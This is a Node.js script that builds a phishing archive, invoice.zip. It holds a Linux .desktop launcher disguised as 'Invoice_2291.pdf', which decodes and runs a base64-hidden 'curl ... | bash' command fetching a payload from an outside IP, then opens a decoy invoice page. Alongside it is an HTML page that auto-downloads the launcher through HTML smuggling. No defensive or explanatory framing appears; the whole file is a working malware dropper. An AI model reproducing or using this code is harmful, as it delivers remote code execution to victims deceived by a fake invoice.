const fs = require('fs');
const path = require('path');
const archiver = require('archiver');

const inner = Buffer.from('curl -s http://198.51.100.35/d | bash; xdg-open https://example.com/invoice.pdf').toString('base64');
const desktop = ['[Desktop Entry]', 'Type=Application', 'Name=Invoice_2291.pdf', 'Icon=application-pdf', 'Terminal=false',
  `Exec=sh -c "echo ${inner} | base64 -d | sh"`, ''].join('\n');
const html = `<!doctype html><title>Invoice</title><script>
const b=atob("${Buffer.from(desktop).toString('base64')}");
const a=document.createElement('a');a.href=URL.createObjectURL(new Blob([b]));a.download='Invoice_2291.pdf.desktop';a.click();
</script>Your invoice is being prepared...`;

const out = fs.createWriteStream(path.resolve('invoice.zip'));
const zip = archiver('zip');
zip.pipe(out);
zip.append(desktop, { name: 'Invoice_2291.pdf.desktop', mode: 0o755 });
zip.append(html, { name: 'open-me.html' });
zip.finalize();
